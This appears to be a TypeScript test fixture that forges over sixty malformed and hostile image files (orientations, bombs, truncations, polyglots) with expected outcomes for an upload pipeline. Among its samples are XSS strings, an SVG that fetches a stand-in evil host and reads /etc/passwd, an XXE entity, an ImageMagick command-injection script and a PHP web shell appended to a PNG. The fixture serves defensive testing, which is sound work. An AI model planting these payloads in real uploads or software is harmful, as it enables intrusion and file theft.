import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { heifBox, lyingJpeg, lyingPng, phonePhoto, upright, withChunk, withSegment } from './photo-forge.js';

/**
 * A file as it may come, and how it must end: `upright` (the test picture, seen right), `picture` (any),
 * the code of a refusal, or `either` where both are right.
 */
export interface HostilePhoto { name: string; bytes: Buffer; ends: string }

const BROKEN = 'media.broken_picture';
const NO_PICTURE = 'media.not_a_picture';
const MEGABYTE = 1024 * 1024;
const SCRIPT = '<script>alert(document.cookie)</script>';

/** More than sixty files that phones, mistakes and malice produce. */
export async function hostilePhotos(): Promise<HostilePhoto[]> {
  const groups = await Promise.all([orientations(), colours(), cuts(), bombs(), strangers(), moving(), chunks(), polyglots(), sizes()]);
  return groups.flat();
}

async function orientations(): Promise<HostilePhoto[]> {
  const jpegs = await Promise.all([1, 2, 3, 4, 5, 6, 7, 8].map(async (each) => ({ name: `JPEG, orientation ${each}, GPS`, bytes: await phonePhoto(each), ends: 'upright' })));
  return [
    ...jpegs,
    { name: 'PNG, orientation 3', bytes: await phonePhoto(3, (image) => image.png()), ends: 'upright' },
    { name: 'PNG, orientation 6', bytes: await phonePhoto(6, (image) => image.png()), ends: 'upright' },
    { name: 'WebP, orientation 6', bytes: await phonePhoto(6, (image) => image.webp()), ends: 'upright' },
    { name: 'WebP, orientation 8', bytes: await phonePhoto(8, (image) => image.webp()), ends: 'upright' },
    { name: 'JPEG, orientation 99', bytes: withOrientation(await phonePhoto(1), 99), ends: 'picture' },
  ];
}

/** The orientation tag (0x0112, SHORT) set to another number. */
function withOrientation(jpeg: Buffer, orientation: number): Buffer {
  const forged = Buffer.from(jpeg);
  const tag = forged.indexOf(Buffer.from([0x12, 0x01, 0x03, 0x00]));
  if (tag > 0) forged.writeUInt16LE(orientation, tag + 8);
  return forged;
}

async function colours(): Promise<HostilePhoto[]> {
  const jpeg = await phonePhoto(1);
  const profile = Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), Buffer.alloc(3_000, 0x5a)]);
  return [
    { name: 'JPEG in CMYK', bytes: await phonePhoto(6, (image) => image.toColourspace('cmyk').jpeg({ quality: 90 })), ends: 'upright' },
    { name: 'JPEG in Display P3', bytes: await phonePhoto(1, (image) => image.withIccProfile('p3').jpeg({ quality: 90 })), ends: 'upright' },
    { name: 'JPEG in grey', bytes: await phonePhoto(6, (image) => image.greyscale().toColourspace('b-w').jpeg()), ends: 'picture' },
    { name: 'JPEG with a broken colour profile', bytes: withSegment(await (await upright()).jpeg().toBuffer(), 0xe2, profile), ends: 'upright' },
    { name: 'JPEG, progressive', bytes: await phonePhoto(6, (image) => image.jpeg({ progressive: true })), ends: 'upright' },
    { name: 'JPEG, 4:4:4, quality 100', bytes: await phonePhoto(8, (image) => image.jpeg({ quality: 100, chromaSubsampling: '4:4:4' })), ends: 'upright' },
    { name: 'PNG, 16 bits', bytes: await phonePhoto(1, (image) => image.toColourspace('rgb16').png()), ends: 'upright' },
    { name: 'PNG, 16 bits, grey', bytes: await phonePhoto(1, (image) => image.toColourspace('grey16').png()), ends: 'picture' },
    { name: 'PNG with a palette', bytes: await phonePhoto(1, (image) => image.png({ palette: true })), ends: 'upright' },
    { name: 'PNG, two colours', bytes: await phonePhoto(1, (image) => image.png({ palette: true, colours: 2 })), ends: 'picture' },
    { name: 'PNG, transparent', bytes: await phonePhoto(1, (image) => image.ensureAlpha(0.5).png()), ends: 'picture' },
    { name: 'PNG, interlaced', bytes: await phonePhoto(6, (image) => image.png({ progressive: true })), ends: 'upright' },
    { name: 'AVIF', bytes: await phonePhoto(1, (image) => image.avif({ effort: 0 })), ends: 'upright' },
    { name: 'JPEG with a second one in it', bytes: withSegment(jpeg, 0xe2, Buffer.concat([Buffer.from('MPF\0', 'latin1'), jpeg.subarray(0, 60_000)])), ends: 'upright' },
  ];
}

async function cuts(): Promise<HostilePhoto[]> {
  const part = (bytes: Buffer, share: number): Buffer => bytes.subarray(0, Math.floor(bytes.length * share));
  const [jpeg, progressive, png, webp, avif] = await Promise.all([
    phonePhoto(6), phonePhoto(6, (image) => image.jpeg({ progressive: true })), phonePhoto(1, (image) => image.png()), phonePhoto(1, (image) => image.webp()), phonePhoto(1, (image) => image.avif({ effort: 0 })),
  ]);
  return [
    { name: 'JPEG cut after 10 %', bytes: part(jpeg, 0.1), ends: BROKEN },
    { name: 'JPEG cut after 50 %', bytes: part(jpeg, 0.5), ends: BROKEN },
    { name: 'JPEG cut after 90 %', bytes: part(jpeg, 0.9), ends: BROKEN },
    { name: 'JPEG without its last marker', bytes: jpeg.subarray(0, -2), ends: 'either' },
    { name: 'progressive JPEG cut after 40 %', bytes: part(progressive, 0.4), ends: BROKEN },
    { name: 'PNG cut after 30 %', bytes: part(png, 0.3), ends: BROKEN },
    { name: 'PNG cut after 95 %', bytes: part(png, 0.95), ends: BROKEN },
    { name: 'WebP cut after 50 %', bytes: part(webp, 0.5), ends: BROKEN },
    { name: 'AVIF cut after 60 %', bytes: part(avif, 0.6), ends: BROKEN },
    { name: 'one byte', bytes: Buffer.from([0xff]), ends: NO_PICTURE },
    { name: 'the start of a JPEG', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]), ends: BROKEN },
    { name: 'a JPEG with noise inside', bytes: Buffer.concat([part(jpeg, 0.4), Buffer.alloc(200_000, 0xc3), jpeg.subarray(Math.floor(jpeg.length / 2))]), ends: 'either' },
  ];
}

async function bombs(): Promise<HostilePhoto[]> {
  const white = sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#fff' }, limitInputPixels: false });
  const small = await upright();
  const [jpeg, png, webp] = await Promise.all([white.clone().jpeg().toBuffer(), white.clone().png().toBuffer(), white.clone().webp({ effort: 0 }).toBuffer()]);
  const progressive = await sharp({ create: { width: 7_700, height: 7_700, channels: 3, background: '#888' } }).jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer();
  const gif = Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([0x10, 0xff, 0x10, 0xff, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]), Buffer.from([0x2c, 0, 0, 0, 0, 0x10, 0xff, 0x10, 0xff, 0, 2, 2, 0x44, 1, 0, 0x3b])]);
  return [
    { name: '100 megapixels in JPEG', bytes: jpeg, ends: 'media.too_many_pixels' },
    { name: '100 megapixels in PNG', bytes: png, ends: 'media.too_many_pixels' },
    { name: '100 megapixels in WebP', bytes: webp, ends: 'media.too_many_pixels' },
    { name: '4,261 megapixels in a GIF of 35 bytes', bytes: gif, ends: 'refused' },
    { name: 'PNG whose header says 50,000 × 50,000', bytes: lyingPng(await small.clone().png().toBuffer(), 50_000, 50_000), ends: 'media.too_many_pixels' },
    { name: 'PNG whose header says 7,000 × 7,000', bytes: lyingPng(await small.clone().png().toBuffer(), 7_000, 7_000), ends: BROKEN },
    { name: 'JPEG whose header says 60,000 × 60,000', bytes: lyingJpeg(await small.clone().jpeg({ mozjpeg: false }).toBuffer(), 60_000, 60_000), ends: 'media.too_many_pixels' },
    { name: 'JPEG whose header says 7,000 × 7,000', bytes: lyingJpeg(await small.clone().jpeg().toBuffer(), 7_000, 7_000), ends: 'either' },
    { name: '59 megapixels, progressive, 4:4:4', bytes: progressive, ends: 'either' },
  ];
}

async function strangers(): Promise<HostilePhoto[]> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" onload="fetch('//evil')">${SCRIPT}<image href="file:///etc/passwd"/></svg>`;
  const text = (content: string): Buffer => Buffer.from(content);
  return [
    { name: 'PNG named .jpg', bytes: await phonePhoto(1, (image) => image.png()), ends: 'upright' },
    { name: 'words named .jpg', bytes: text('Miến dong Bình Liêu, 90.000 đ một ki-lô\n'.repeat(50)), ends: NO_PICTURE },
    { name: 'HTML named .jpg', bytes: text(`<!DOCTYPE html><html>${SCRIPT}</html>`), ends: NO_PICTURE },
    { name: 'PDF named .jpg', bytes: text(`%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF`), ends: NO_PICTURE },
    { name: 'TIFF', bytes: await (await upright()).tiff().toBuffer(), ends: NO_PICTURE },
    { name: 'BMP', bytes: Buffer.concat([text('BM'), Buffer.alloc(20_000, 9)]), ends: NO_PICTURE },
    { name: 'MP4', bytes: heifBox('isom', 'mp42'), ends: NO_PICTURE },
    { name: 'HEIC of an iPhone', bytes: heifBox('heic', 'mif1', 'MiHB'), ends: 'media.heic_not_readable' },
    { name: 'HEIC of a Samsung', bytes: heifBox('mif1', 'heic', 'heix'), ends: 'media.heic_not_readable' },
    { name: 'HEIC named AVIF inside', bytes: heifBox('avif', 'heic'), ends: BROKEN },
    { name: 'SVG with a script', bytes: text(svg), ends: 'media.svg_refused' },
    { name: 'SVG behind a prolog', bytes: text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`), ends: 'media.svg_refused' },
    { name: 'SVG behind a long comment', bytes: text(`<!--${'x'.repeat(5_000)}-->${svg}`), ends: NO_PICTURE },
    { name: 'Magick script', bytes: text('push graphic-context\nimage over 0,0 0,0 \'https://evil/"|id"\'\npop graphic-context'), ends: NO_PICTURE },
  ];
}

async function moving(): Promise<HostilePhoto[]> {
  const [one, two] = await Promise.all([upright(), upright().then((image) => image.negate())].map(async (image) => (await image).png().toBuffer()));
  const frames = [one!, two!];
  return [
    { name: 'GIF, moving', bytes: await sharp(frames, { join: { animated: true } }).gif().toBuffer(), ends: 'upright' },
    { name: 'WebP, moving', bytes: await sharp(frames, { join: { animated: true } }).webp().toBuffer(), ends: 'upright' },
  ];
}

async function chunks(): Promise<HostilePhoto[]> {
  const png = await (await upright()).png().toBuffer();
  const jpeg = await phonePhoto(6);
  const xmp = `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>21,32.1N</exif:GPSLatitude>${SCRIPT}</x:xmpmeta>`;
  return [
    { name: 'PNG with 8 MB of text', bytes: withChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(8 * MEGABYTE, 65)])), ends: 'either' },
    { name: 'PNG with 200 MB of text, packed', bytes: withChunk(png, 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(200 * MEGABYTE, 65))])), ends: 'either' },
    { name: 'PNG with the place in XMP', bytes: withChunk(png, 'iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), Buffer.from(xmp)])), ends: 'upright' },
    { name: 'JPEG with the place in XMP', bytes: withSegment(jpeg, 0xe1, Buffer.from(xmp)), ends: 'upright' },
    { name: 'JPEG with the place in IPTC', bytes: withSegment(jpeg, 0xed, Buffer.from('Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x12\x1c\x02\x5a\0\x0dBinh Lieu GPS')), ends: 'upright' },
    { name: 'JPEG with a broken EXIF', bytes: withSegment(await (await upright()).jpeg().toBuffer(), 0xe1, Buffer.concat([Buffer.from('Exif\0\0II*\0\x08\0\0\0\xff\xff', 'latin1'), Buffer.alloc(500, 0xff)])), ends: 'upright' },
  ];
}

async function polyglots(): Promise<HostilePhoto[]> {
  const jpeg = await phonePhoto(6);
  const png = await phonePhoto(1, (image) => image.png());
  const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(3_000, 3), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
  return [
    { name: 'JPEG and ZIP', bytes: Buffer.concat([jpeg, zip]), ends: 'upright' },
    { name: 'JPEG with a page in its comment', bytes: withSegment(jpeg, 0xfe, Buffer.from(`--><html>${SCRIPT}`)), ends: 'upright' },
    { name: 'page and JPEG', bytes: Buffer.concat([Buffer.from(`<html>${SCRIPT}<!--`), jpeg]), ends: NO_PICTURE },
    { name: 'GIF and script', bytes: Buffer.from(`GIF89a=1/*${'\0'.repeat(40)}*/;alert(1)`), ends: 'refused' },
    { name: 'PNG and PHP', bytes: Buffer.concat([png, Buffer.from('<?php system($_GET["c"]); ?>')]), ends: 'upright' },
    { name: 'JPEG with Samsung’s trailer', bytes: Buffer.concat([jpeg, Buffer.from('\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1763790000000SEFHk\0\0\0\x01\0\0\0SEFT', 'latin1')]), ends: 'upright' },
    { name: 'JPEG with its film behind it', bytes: Buffer.concat([jpeg, heifBox('mp42', 'isom')]), ends: 'upright' },
    { name: 'JPEG with another of the place behind it', bytes: Buffer.concat([jpeg, await phonePhoto(1)]), ends: 'upright' },
  ];
}

async function sizes(): Promise<HostilePhoto[]> {
  const sized = async (width: number, height: number): Promise<Buffer> => (await upright(width, height)).jpeg().toBuffer();
  return [
    { name: '1 × 1', bytes: await sized(1, 1), ends: 'media.too_small' },
    { name: '199 × 2,000', bytes: await sized(199, 2_000), ends: 'media.too_small' },
    { name: '6,000 × 210', bytes: await sized(6_000, 210), ends: 'picture' },
    { name: '210 × 6,000', bytes: await sized(210, 6_000), ends: 'picture' },
    { name: '20 MB of noise that starts like a JPEG', bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(20 * MEGABYTE - 4, 0xa7)]), ends: BROKEN },
  ];
}
